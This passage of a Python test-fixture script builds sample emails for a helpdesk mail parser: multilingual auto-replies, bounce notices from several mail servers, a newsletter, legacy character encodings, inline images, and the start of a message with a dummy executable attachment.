add("13-outlook-reply-pt-mensagem-original.eml", MSG13, {
    "from": "julia@customer.test", "from_name": "Júlia Castro", "subject": "RES: ENC: Boleto não gera",
    "message_id": "CP5PR80MB4211F0E1D2C3B4A5968778695A4B3C2D@CP5PR80MB4211.lamprd80.prod.outlook.com",
    "in_reply_to": "20261126173000.5e6f7a8b@helpdesk.test",
    "references": ["CP5PR80MB4211A1B2C3D4E5F60718293A4B5C6D7E@CP5PR80MB4211.lamprd80.prod.outlook.com", "20261126173000.5e6f7a8b@helpdesk.test"],
    "language": "pt-BR", "thread_index": "AdtfXk1wq2m3n4o5p6q7r8s9t0u1vwABCDEF",
    "text_contains": ["funcionou depois da atualização"]},
    {"result": "reply_threaded", "rule": "references", "replies_to": "12-outlook-forward-pt-mensagem-original.eml",
     "new_text": "O cliente confirmou que funcionou depois da atualização. Obrigada!"}, crlf=True)

# ---------------------------------------------------------------- 14 out-of-office pt from ana (known) Exchange style
T14 = ("Estou em férias até 07/12/2026, com acesso limitado ao e-mail.\n\nEm caso de urgência, fale com financeiro@customer.test.\n\nAna Souza\n")
MSG14 = u(f"""From: Ana Souza <ana@customer.test>
To: Suporte Helpdesk <support+t1-9f8e7d6c5b4a3921@helpdesk.test>
Subject: =?utf-8?Q?Resposta_autom=C3=A1tica:_[#1]_Recebemos_sua_solicita=C3=A7=C3=A3o?=
Thread-Topic: [#1] Recebemos sua =?utf-8?Q?solicita=C3=A7=C3=A3o?=
Date: Fri, 27 Nov 2026 09:00:03 -0300
Message-ID: <a3f9c2d1e8b74f6a9c0d1e2f3a4b5c6d@customer.test>
In-Reply-To: <20261127120001.aa11bb22@helpdesk.test>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: ana@customer.test
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

{T14}""")
add("14-out-of-office-pt-known.eml", MSG14, {
    "from": "ana@customer.test", "from_name": "Ana Souza", "subject": "Resposta automática: [#1] Recebemos sua solicitação",
    "message_id": "a3f9c2d1e8b74f6a9c0d1e2f3a4b5c6d@customer.test", "in_reply_to": "20261127120001.aa11bb22@helpdesk.test",
    "auto_submitted": "auto-replied", "x_autoreply": True, "language": "pt-BR", "text_contains": ["Estou em férias"]},
    {"result": "ignored_automated", "rule": "ignored_automated", "note": "ana is known (01)."})

# ---------------------------------------------------------------- 15 out-of-office es (carlos known) X-Auto-Response-Suppress only + subject
T15 = "Estaré fuera de la oficina hasta el lunes 30 de noviembre. Para temas urgentes escriba a compras@customer.test.\n"
MSG15 = u(f"""From: =?iso-8859-1?Q?Carlos_M=E9ndez?= <carlos@customer.test>
To: Soporte <support@helpdesk.test>
Subject: =?iso-8859-1?Q?Respuesta_autom=E1tica:_Fuera_de_la_oficina?=
Date: Fri, 27 Nov 2026 08:00:00 +0000
Message-ID: <AM0PR10MB2851OOF0001@AM0PR10MB2851.eurprd10.prod.outlook.com>
X-MS-Exchange-Organization-SCL: -1
X-Auto-Response-Suppress: All
Auto-Submitted: auto-generated
Content-Language: es-ES
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp(T15)}""")
add("15-out-of-office-es-exchange.eml", MSG15, {
    "from": "carlos@customer.test", "from_name": "Carlos Méndez", "subject": "Respuesta automática: Fuera de la oficina",
    "message_id": "AM0PR10MB2851OOF0001@AM0PR10MB2851.eurprd10.prod.outlook.com",
    "auto_submitted": "auto-generated", "x_autoreply": True, "language": "es-ES", "text_contains": ["fuera de la oficina"]},
    {"result": "ignored_automated", "rule": "ignored_automated", "note": "carlos is known (03)."})

# ---------------------------------------------------------------- 16 out-of-office en, only X-Autoreply (vacation program)
T16 = "I am out of the office until December 1st with no access to e-mail. Your message will not be forwarded.\n\nPeter\n"
MSG16 = f"""Return-Path: <peter@customer.test>
From: Peter Novak <peter@customer.test>
To: support@helpdesk.test
Subject: Out of Office: Signed contract
Date: Fri, 27 Nov 2026 10:00:00 +0100
Message-ID: <vacation.1795770000.peter@customer.test>
X-Autoreply: yes
Precedence: junk
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

{T16}"""
add("16-out-of-office-en-x-autoreply.eml", MSG16, {
    "from": "peter@customer.test", "from_name": "Peter Novak", "subject": "Out of Office: Signed contract",
    "message_id": "vacation.1795770000.peter@customer.test", "x_autoreply": True, "precedence": "junk",
    "text_contains": ["out of the office"]},
    {"result": "ignored_automated", "rule": "ignored_automated", "note": "peter is known (09)."})

# ---------------------------------------------------------------- 17 auto-reply from an unknown sender
T17 = "Recebemos seu e-mail e responderemos em até 2 dias úteis.\n\nRecursos Humanos\n"
MSG17 = u(f"""From: Recursos Humanos <rh@customer.test>
To: support@helpdesk.test
Subject: =?UTF-8?Q?Resposta_autom=C3=A1tica?=
Date: Fri, 27 Nov 2026 09:30:00 -0300
Message-ID: <autoreply-77f1a2b3@customer.test>
Auto-Submitted: auto-replied
X-Autorespond: yes
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

{T17}""")
add("17-auto-reply-unknown-sender.eml", MSG17, {
    "from": "rh@customer.test", "from_name": "Recursos Humanos", "subject": "Resposta automática",
    "message_id": "autoreply-77f1a2b3@customer.test", "auto_submitted": "auto-replied", "x_autoreply": True,
    "text_contains": ["2 dias úteis"]},
    {"result": "suspended", "rule": "suspended", "note": "automated mail from someone we do not know."})

# ---------------------------------------------------------------- 18 newsletter bulk unknown
H18 = ("<!DOCTYPE html><html><head><style>body{font-family:Arial}</style></head><body>"
       "<table width=\"600\"><tr><td><img src=\"https://news.customer.test/logo.png\" alt=\"Customer News\"></td></tr>"
       "<tr><td><h1>Novidades de novembro</h1><p>Confira as promoções da Black Friday!</p>"
       "<p><a href=\"https://news.customer.test/c/abc123\" onclick=\"track()\">Ver ofertas</a></p></td></tr>"
       "<tr><td><a href=\"https://news.customer.test/unsubscribe?u=42\">Descadastrar</a></td></tr></table>"
       "<img src=\"https://news.customer.test/open.gif?u=42\" width=\"1\" height=\"1\"></body></html>\n")
T18 = "Novidades de novembro\n\nConfira as promoções da Black Friday!\nVer ofertas: https://news.customer.test/c/abc123\n"
MSG18 = u(f"""From: Customer News <news@customer.test>
To: support@helpdesk.test
Subject: =?UTF-8?B?{base64.b64encode('Novidades de novembro 🎉'.encode()).decode()}?=
Date: Fri, 27 Nov 2026 06:00:00 +0000
Message-ID: <0100018c1a2b3c4d-5e6f7a8b-9c0d-1e2f-3a4b-5c6d7e8f9a0b-000000@email.customer.test>
Precedence: bulk
List-Unsubscribe: <https://news.customer.test/unsubscribe?u=42>, <mailto:unsubscribe@news.customer.test?subject=42>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Feedback-ID: 1.us-east-1.abc:AmazonSES
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="----=_Part_1234567_890123456.1795744800000"

------=_Part_1234567_890123456.1795744800000
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(T18)}
------=_Part_1234567_890123456.1795744800000
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp(H18)}
------=_Part_1234567_890123456.1795744800000--
""")
add("18-newsletter-bulk-unknown.eml", MSG18, {
    "from": "news@customer.test", "from_name": "Customer News", "subject": "Novidades de novembro 🎉",
    "message_id": "0100018c1a2b3c4d-5e6f7a8b-9c0d-1e2f-3a4b-5c6d7e8f9a0b-000000@email.customer.test",
    "precedence": "bulk", "list_unsubscribe": True, "has_html": True, "text_contains": ["Black Friday"],
    "html_excludes": ["onclick", "<style"]},
    {"result": "suspended", "rule": "suspended"})

# ---------------------------------------------------------------- 19 mailing list post from a known sender
T19 = "Does anyone know if the helpdesk supports SAML login yet?\n\n-- \njohn\n_______________________________________________\nusers mailing list\nusers@lists.customer.test\n"
MSG19 = f"""From: John Carter <john@customer.test>
To: users@lists.customer.test
Cc: support@helpdesk.test
Subject: [users] SAML login?
Date: Fri, 27 Nov 2026 11:11:11 -0500
Message-ID: <20261127161111.GA4242@customer.test>
Precedence: list
List-Id: Users of the product <users.lists.customer.test>
List-Post: <mailto:users@lists.customer.test>
List-Unsubscribe: <https://lists.customer.test/mailman/options/users>, <mailto:users-request@lists.customer.test?subject=unsubscribe>
Sender: "users" <users-bounces@lists.customer.test>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

{T19}"""
add("19-mailing-list-known-sender.eml", MSG19, {
    "from": "john@customer.test", "from_name": "John Carter", "subject": "[users] SAML login?",
    "message_id": "20261127161111.GA4242@customer.test", "precedence": "list",
    "list_id": "Users of the product <users.lists.customer.test>", "list_unsubscribe": True,
    "cc": ["support@helpdesk.test"], "text_contains": ["SAML"]},
    {"result": "ignored_automated", "rule": "ignored_automated", "note": "john is known (05)."})

# ---------------------------------------------------------------- 20 Postfix DSN (user unknown)
ORIG20 = """Return-Path: <bounces@helpdesk.test>
Received: by mail.helpdesk.test (Postfix, from userid 0)
\tid 4Zx9Yq0kLmz9sWx; Thu, 26 Nov 2026 15:30:01 +0000 (UTC)
From: Suporte Helpdesk <support@helpdesk.test>
To: ghost@customer.test
Subject: [#9] Recebemos sua =?UTF-8?Q?solicita=C3=A7=C3=A3o?=
Message-ID: <20261126153000.1f2e3d4c5b6a@helpdesk.test>
Date: Thu, 26 Nov 2026 15:30:00 +0000
Auto-Submitted: auto-generated
"""
MSG20 = f"""Return-Path: <>
Received: by mx.customer.test (Postfix)
\tid 4Zx9Yr1mNpz9sWy; Thu, 26 Nov 2026 15:30:02 +0000 (UTC)
Date: Thu, 26 Nov 2026 15:30:02 +0000 (UTC)
From: MAILER-DAEMON@customer.test (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: bounces@helpdesk.test
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4Zx9Yr1mNpz9sWy.1795707002/mx.customer.test"
Content-Transfer-Encoding: 7bit
Message-Id: <4Zx9Yr1mNpz9sWy@mx.customer.test>

This is a MIME-encapsulated message.

--4Zx9Yr1mNpz9sWy.1795707002/mx.customer.test
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.customer.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<ghost@customer.test>: unknown user: "ghost"

--4Zx9Yr1mNpz9sWy.1795707002/mx.customer.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.customer.test
X-Postfix-Queue-ID: 4Zx9Yr1mNpz9sWy
X-Postfix-Sender: rfc822; bounces@helpdesk.test
Arrival-Date: Thu, 26 Nov 2026 15:30:01 +0000 (UTC)

Final-Recipient: rfc822; ghost@customer.test
Original-Recipient: rfc822;ghost@customer.test
Action: failed
Status: 5.1.1
Diagnostic-Code: X-Postfix; unknown user: "ghost"

--4Zx9Yr1mNpz9sWy.1795707002/mx.customer.test
Content-Description: Undelivered Message
Content-Type: message/rfc822

{ORIG20}
Recebemos sua solicitação.

--4Zx9Yr1mNpz9sWy.1795707002/mx.customer.test--
"""
add("20-dsn-postfix-user-unknown.eml", u(MSG20), {
    "from": "mailer-daemon@customer.test", "from_name": "Mail Delivery System", "subject": "Undelivered Mail Returned to Sender",
    "message_id": "4Zx9Yr1mNpz9sWy@mx.customer.test", "auto_submitted": "auto-replied", "is_dsn": True,
    "dsn": {"original_message_id": "20261126153000.1f2e3d4c5b6a@helpdesk.test", "final_recipient": "ghost@customer.test",
            "action": "failed", "status": "5.1.1", "diagnostic": "X-Postfix; unknown user: \"ghost\""},
    "text_contains": ["could not\nbe delivered"]},
    {"result": "bounce", "rule": "bounce", "note": "no outbox row has this Message-ID in a replay: recorded, no ticket."})

# ---------------------------------------------------------------- 21 Exchange NDR mailbox full (text/rfc822-headers)
H21 = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"><style>*{font-family:Segoe UI}</style></head><body>"
       "<table><tr><td><b>Your message to bob@customer.test couldn't be delivered.</b></td></tr>"
       "<tr><td>bob's mailbox is full.</td></tr></table></body></html>\n")
MSG21 = f"""From: Microsoft Outlook <postmaster@customer.test>
To: <bounces@helpdesk.test>
Date: Thu, 26 Nov 2026 16:00:05 +0000
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="b0e1c2d3-a4f5-4687-9a8b-7c6d5e4f3a2b"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <8a7b6c5d-4e3f-2a1b-0c9d-8e7f6a5b4c3d@EX01.customer.test>
In-Reply-To: <20261126155959.9a8b7c6d@helpdesk.test>
References: <20261126155959.9a8b7c6d@helpdesk.test>
Subject: Undeliverable: [#11] Your request was received
Auto-Submitted: auto-replied
MIME-Version: 1.0

--b0e1c2d3-a4f5-4687-9a8b-7c6d5e4f3a2b
Content-Type: multipart/alternative; differences=Content-Type;
\tboundary="c1d2e3f4-a5b6-4798-8a9b-0c1d2e3f4a5b"

--c1d2e3f4-a5b6-4798-8a9b-0c1d2e3f4a5b
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Your message to bob@customer.test couldn't be delivered.
bob's mailbox is full.

--c1d2e3f4-a5b6-4798-8a9b-0c1d2e3f4a5b
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(H21)}
--c1d2e3f4-a5b6-4798-8a9b-0c1d2e3f4a5b--

--b0e1c2d3-a4f5-4687-9a8b-7c6d5e4f3a2b
Content-Type: message/delivery-status

Reporting-MTA: dns;EX01.customer.test
Received-From-MTA: dns;mail.helpdesk.test
Arrival-Date: Thu, 26 Nov 2026 16:00:00 +0000

Final-Recipient: rfc822;bob@customer.test
Action: failed
Status: 5.2.2
Diagnostic-Code: smtp;554 5.2.2 mailbox full; STOREDRV.Deliver.Exception:QuotaExceededException.MapiExceptionShutoffQuotaExceeded
Remote-MTA: dns;EX01.customer.test

--b0e1c2d3-a4f5-4687-9a8b-7c6d5e4f3a2b
Content-Type: text/rfc822-headers

From: Support Helpdesk <support@helpdesk.test>
To: Bob Stone <bob@customer.test>
Subject: [#11] Your request was received
Date: Thu, 26 Nov 2026 15:59:59 +0000
Message-ID: <20261126155959.9a8b7c6d@helpdesk.test>
Auto-Submitted: auto-generated
MIME-Version: 1.0

--b0e1c2d3-a4f5-4687-9a8b-7c6d5e4f3a2b--
"""
add("21-dsn-exchange-mailbox-full.eml", MSG21, {
    "from": "postmaster@customer.test", "from_name": "Microsoft Outlook", "subject": "Undeliverable: [#11] Your request was received",
    "message_id": "8a7b6c5d-4e3f-2a1b-0c9d-8e7f6a5b4c3d@EX01.customer.test", "in_reply_to": "20261126155959.9a8b7c6d@helpdesk.test",
    "references": ["20261126155959.9a8b7c6d@helpdesk.test"], "auto_submitted": "auto-replied", "is_dsn": True, "has_html": True,
    "language": "en-US",
    "dsn": {"original_message_id": "20261126155959.9a8b7c6d@helpdesk.test", "final_recipient": "bob@customer.test",
            "action": "failed", "status": "5.2.2",
            "diagnostic": "smtp;554 5.2.2 mailbox full; STOREDRV.Deliver.Exception:QuotaExceededException.MapiExceptionShutoffQuotaExceeded"},
    "text_contains": ["mailbox is full"], "html_excludes": ["<style"]},
    {"result": "bounce", "rule": "bounce"})

# ---------------------------------------------------------------- 22 Gmail DSN
MSG22 = u(f"""Received: by 2002:a05:6a10:c0e:b0:5a1:aa11:bb22 with SMTP id q14csp123456pxh;
        Thu, 26 Nov 2026 08:40:03 -0800 (PST)
Return-Path: <>
Date: Thu, 26 Nov 2026 08:40:03 -0800 (PST)
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: bounces@helpdesk.test
Auto-Submitted: auto-replied
Message-ID: <6756e1a3.050a0220.3f7b2.1a2bSMTPIN_ADDED_BROKEN@mx.google.com>
Subject: Delivery Status Notification (Failure)
References: <20261126164000.77aa88bb@helpdesk.test>
In-Reply-To: <20261126164000.77aa88bb@helpdesk.test>
X-Failed-Recipients: nobody.here@customer.test
MIME-Version: 1.0
Content-Type: multipart/report; boundary="000000000000e1f2a3b4c5d6e7f8"; report-type=delivery-status

--000000000000e1f2a3b4c5d6e7f8
Content-Type: multipart/related; boundary="000000000000e1f2a3b4c5d6e7f9"

--000000000000e1f2a3b4c5d6e7f9
Content-Type: multipart/alternative; boundary="000000000000e1f2a3b4c5d6e7fa"

--000000000000e1f2a3b4c5d6e7fa
Content-Type: text/plain; charset="UTF-8"

** Address not found **

Your message wasn't delivered to nobody.here@customer.test because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist.

--000000000000e1f2a3b4c5d6e7fa
Content-Type: text/html; charset="UTF-8"

<html><head><style>* {{ font-family:Roboto, "Helvetica Neue", Helvetica, Arial, sans-serif; }}</style></head><body><table><tr><td><img src="cid:icon.png" width="24" height="24"></td><td><h2>Address not found</h2><p>Your message wasn't delivered to <a style="color:#212121;text-decoration:none"><b>nobody.here@customer.test</b></a> because the address couldn't be found, or is unable to receive mail.</p></td></tr></table></body></html>

--000000000000e1f2a3b4c5d6e7fa--
--000000000000e1f2a3b4c5d6e7f9
Content-Type: image/png; name="icon.png"
Content-Disposition: attachment; filename="icon.png"
Content-Transfer-Encoding: base64
Content-ID: <icon.png>

{b64(png(2, 2, (220, 50, 40)))}
--000000000000e1f2a3b4c5d6e7f9--
--000000000000e1f2a3b4c5d6e7f8
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; mail.helpdesk.test
Arrival-Date: Thu, 26 Nov 2026 08:40:01 -0800 (PST)
X-Original-Message-ID: <20261126164000.77aa88bb@helpdesk.test>

Final-Recipient: rfc822; nobody.here@customer.test
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.test. (203.0.113.10, the server for the domain customer.test.)
Diagnostic-Code: smtp; 550 5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Thu, 26 Nov 2026 08:40:03 -0800 (PST)

--000000000000e1f2a3b4c5d6e7f8
Content-Type: message/rfc822

From: Support Helpdesk <support@helpdesk.test>
To: nobody.here@customer.test
Subject: [#12] Recebemos sua solicitacao
Message-ID: <20261126164000.77aa88bb@helpdesk.test>
Date: Thu, 26 Nov 2026 16:40:00 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Recebemos sua solicitacao.

--000000000000e1f2a3b4c5d6e7f8--
""")
add("22-dsn-gmail-address-not-found.eml", MSG22, {
    "from": "mailer-daemon@googlemail.com", "from_name": "Mail Delivery Subsystem", "subject": "Delivery Status Notification (Failure)",
    "message_id": "6756e1a3.050a0220.3f7b2.1a2bSMTPIN_ADDED_BROKEN@mx.google.com", "in_reply_to": "20261126164000.77aa88bb@helpdesk.test",
    "references": ["20261126164000.77aa88bb@helpdesk.test"], "auto_submitted": "auto-replied", "is_dsn": True, "has_html": True,
    "attachments": ["icon.png"], "dsn": {"original_message_id": "20261126164000.77aa88bb@helpdesk.test", "final_recipient": "nobody.here@customer.test",
            "action": "failed", "status": "5.1.1",
            "diagnostic": "smtp; 550 5.1.1 The email account that you tried to reach does not exist."},
    "text_contains": ["Address not found"], "html_excludes": ["<style"]},
    {"result": "bounce", "rule": "bounce"})

# ---------------------------------------------------------------- 23 qmail non-RFC bounce
MSG23 = """Return-Path: <>
Date: 26 Nov 2026 17:05:11 -0000
From: MAILER-DAEMON@mx2.customer.test
To: bounces@helpdesk.test
Subject: failure notice
Message-ID: <20261126170511.31337.qmail@mx2.customer.test>

Hi. This is the qmail-send program at mx2.customer.test.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<old.employee@customer.test>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <bounces@helpdesk.test>
Received: (qmail 31335 invoked from network); 26 Nov 2026 17:05:10 -0000
From: Support Helpdesk <support@helpdesk.test>
To: old.employee@customer.test
Subject: [#14] Recebemos sua solicitacao
Message-ID: <20261126170509.4b5c6d7e@helpdesk.test>
Date: Thu, 26 Nov 2026 17:05:09 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Recebemos sua solicitacao.
"""
add("23-bounce-qmail-non-rfc.eml", MSG23, {
    "from": "mailer-daemon@mx2.customer.test", "subject": "failure notice",
    "message_id": "20261126170511.31337.qmail@mx2.customer.test", "is_dsn": True,
    "dsn": {"original_message_id": "20261126170509.4b5c6d7e@helpdesk.test", "final_recipient": "old.employee@customer.test",
            "action": "failed", "status": "5.1.1", "diagnostic": "Sorry, no mailbox here by that name. (#5.1.1)"},
    "text_contains": ["qmail-send program"]},
    {"result": "bounce", "rule": "bounce", "note": "no message/delivery-status part: read best-effort from the qmail text."})

# ---------------------------------------------------------------- 24 Postfix delay DSN
MSG24 = f"""Return-Path: <>
Date: Fri, 27 Nov 2026 03:30:02 +0000 (UTC)
From: MAILER-DAEMON@mail.helpdesk.test (Mail Delivery System)
Subject: Delayed Mail (still being retried)
To: bounces@helpdesk.test
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="7C2D3E4F5A.1795750202/mail.helpdesk.test"
Message-Id: <20261127033002.7C2D3E4F5A@mail.helpdesk.test>

This is a MIME-encapsulated message.

--7C2D3E4F5A.1795750202/mail.helpdesk.test
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.helpdesk.test.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 12 hour(s).
It will be retried until it is 5 day(s) old.

--7C2D3E4F5A.1795750202/mail.helpdesk.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.helpdesk.test
X-Postfix-Queue-ID: 7C2D3E4F5A
Arrival-Date: Thu, 26 Nov 2026 15:20:00 +0000 (UTC)

Final-Recipient: rfc822; slow@customer.test
Action: delayed
Status: 4.4.1
Diagnostic-Code: X-Postfix; connect to mx.customer.test[203.0.113.10]:25: Connection timed out
Will-Retry-Until: Tue, 1 Dec 2026 15:20:00 +0000 (UTC)

--7C2D3E4F5A.1795750202/mail.helpdesk.test
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Support Helpdesk <support@helpdesk.test>
To: slow@customer.test
Subject: [#15] Recebemos sua solicitacao
Message-ID: <20261126152000.0d0e0f10@helpdesk.test>
Date: Thu, 26 Nov 2026 15:20:00 +0000

--7C2D3E4F5A.1795750202/mail.helpdesk.test--
"""
add("24-dsn-postfix-delayed.eml", MSG24, {
    "from": "mailer-daemon@mail.helpdesk.test", "from_name": "Mail Delivery System", "subject": "Delayed Mail (still being retried)",
    "message_id": "20261127033002.7C2D3E4F5A@mail.helpdesk.test", "auto_submitted": "auto-replied", "is_dsn": True,
    "dsn": {"original_message_id": "20261126152000.0d0e0f10@helpdesk.test", "final_recipient": "slow@customer.test",
            "action": "delayed", "status": "4.4.1",
            "diagnostic": "X-Postfix; connect to mx.customer.test[203.0.113.10]:25: Connection timed out"},
    "text_contains": ["THIS IS A WARNING ONLY"]},
    {"result": "bounce", "rule": "bounce", "note": "Action delayed: recorded, the outbox row must NOT become bounced."})

# ---------------------------------------------------------------- 25 ISO-8859-1 body and subject
T25 = ("Prezados,\n\nGostaríamos de uma cotação para 12 licenças adicionais. A renovação vence em dezembro.\n\n"
       "Atenciosamente,\nJosé Araújo\nGerente de TI\n")
MSG25 = (f"""Return-Path: <jose@customer.test>
From: =?ISO-8859-1?Q?Jos=E9_Ara=FAjo?= <jose@customer.test>
To: support@helpdesk.test
Subject: =?ISO-8859-1?Q?Solicita=E7=E3o_de_or=E7amento_-_licen=E7as?=
Date: Thu, 26 Nov 2026 10:44:00 -0300
Message-ID: <4F3E2D1C.5060708@customer.test>
User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Thunderbird/45.8.0
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit
Content-Language: pt-BR

""" + T25.encode("latin-1").decode("latin-1"))
add("25-latin1-body-and-subject.eml", MSG25, {
    "from": "jose@customer.test", "from_name": "José Araújo", "subject": "Solicitação de orçamento - licenças",
    "message_id": "4F3E2D1C.5060708@customer.test", "language": "pt-BR",
    "text_contains": ["cotação para 12 licenças", "José Araújo"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR"})

# ---------------------------------------------------------------- 26 Windows-1252 Outlook (smart quotes, euro) CRLF
T26 = ("Hola:\r\n\r\nEl informe “Ventas Q4” muestra 1.250 € en lugar de 12.500 €… ¿Es un error de redondeo?\r\n\r\n"
       "Gracias – Carmen Ruiz\r\n")
MSG26 = (f"""From: Carmen Ruiz <carmen@customer.test>
To: <support@helpdesk.test>
Subject: =?Windows-1252?Q?Informe_=93Ventas_Q4=94_con_importes_err=F3neos?=
Date: Thu, 26 Nov 2026 18:02:44 +0100
Message-ID: <002a01db5f58$8e9fa0b0$abbcc1d2$@customer.test>
MIME-Version: 1.0
Content-Type: text/plain;
\tcharset="windows-1252"
Content-Transfer-Encoding: quoted-printable
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdtfWI6foLCrvMHSq7zB0g==
Content-Language: es

{qp(T26, 'cp1252')}""")
add("26-windows-1252-outlook-es.eml", MSG26, {
    "from": "carmen@customer.test", "from_name": "Carmen Ruiz", "subject": "Informe “Ventas Q4” con importes erróneos",
    "message_id": "002a01db5f58$8e9fa0b0$abbcc1d2$@customer.test", "language": "es", "thread_index": "AdtfWI6foLCrvMHSq7zB0g==",
    "text_contains": ["“Ventas Q4”", "1.250 €", "12.500 €…", "Gracias – Carmen"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "es"}, crlf=True)

# ---------------------------------------------------------------- 27 Outlook inline image (multipart/related, cid)
H27 = ("<html><body><p>Olá, segue o print do erro:</p><p><img width=\"320\" height=\"200\" id=\"Imagem_x0020_1\" src=\"cid:image001.png@01DB5F60.1A2B3C40\" alt=\"erro\"></p>"
       "<p>Roberto Alves</p><p><img src=\"cid:image002.png@01DB5F60.1A2B3C40\" alt=\"Logo\"></p></body></html>\n")
T27 = "Olá, segue o print do erro:\n\n[erro]\n\nRoberto Alves\n\n[Logo]\n"
MSG27 = u(f"""From: Roberto Alves <roberto@customer.test>
To: "support@helpdesk.test" <support@helpdesk.test>
Subject: Erro ao salvar pedido
Date: Thu, 26 Nov 2026 13:37:00 -0300
Message-ID: <CP5PR80MB42112233445566778899AABBCCDDEEFF@CP5PR80MB4211.lamprd80.prod.outlook.com>
Content-Language: pt-BR
MIME-Version: 1.0
Content-Type: multipart/related;
\tboundary="_006_CP5PR80MB42112233_";
\ttype="multipart/alternative"

--_006_CP5PR80MB42112233_
Content-Type: multipart/alternative;
\tboundary="_000_CP5PR80MB42112233_"

--_000_CP5PR80MB42112233_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(T27.encode())}

--_000_CP5PR80MB42112233_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(H27.encode())}

--_000_CP5PR80MB42112233_--

--_006_CP5PR80MB42112233_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=70
Content-ID: <image001.png@01DB5F60.1A2B3C40>
Content-Transfer-Encoding: base64

{b64(png(4, 3, (10, 120, 200)))}

--_006_CP5PR80MB42112233_
Content-Type: image/png; name="image002.png"
Content-Description: image002.png
Content-Disposition: inline; filename="image002.png"
Content-ID: <image002.png@01DB5F60.1A2B3C40>
Content-Transfer-Encoding: base64

{b64(png(2, 2, (0, 0, 0)))}

--_006_CP5PR80MB42112233_--
""")
add("27-outlook-inline-images.eml", MSG27, {
    "from": "roberto@customer.test", "from_name": "Roberto Alves", "subject": "Erro ao salvar pedido",
    "message_id": "CP5PR80MB42112233445566778899AABBCCDDEEFF@CP5PR80MB4211.lamprd80.prod.outlook.com", "language": "pt-BR",
    "has_html": True, "attachments": ["image001.png", "image002.png"], "inline": ["image001.png", "image002.png"],
    "content_ids": ["image001.png@01DB5F60.1A2B3C40", "image002.png@01DB5F60.1A2B3C40"],
    "text_contains": ["segue o print do erro"]},
    {"result": "new_ticket", "rule": "new_ticket", "locale": "pt-BR", "attachments_stored": ["image001.png", "image002.png"]})

# ---------------------------------------------------------------- 28 .exe attachment (+ an accepted pdf)
exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00" + \
      b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7 + b"PE\x00\x00" + b"\x00" * 64
MSG28 = f"""From: Felipe Rocha <felipe@customer.test>
To: support@helpdesk.test
Subject: Instalador do leitor de boletos
Date: Thu, 26 Nov 2026 16:16:16 -0300
Message-ID: <CAF3lip3R0cha0001xYz@mail.gmail.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="00000000000055aa66bb77cc88dd"

--00000000000055aa66bb77cc88dd
Content-Type: text/plain; charset="UTF-8"

Segue o instalador que o fornecedor mandou e o manual. O antivirus bloqueia a instalacao.

--00000000000055aa66bb77cc88dd
Content-Type: application/x-msdownload; name="setup.exe"
Content-Disposition: attachment; filename="setup.exe"
Content-Transfer-Encoding: base64

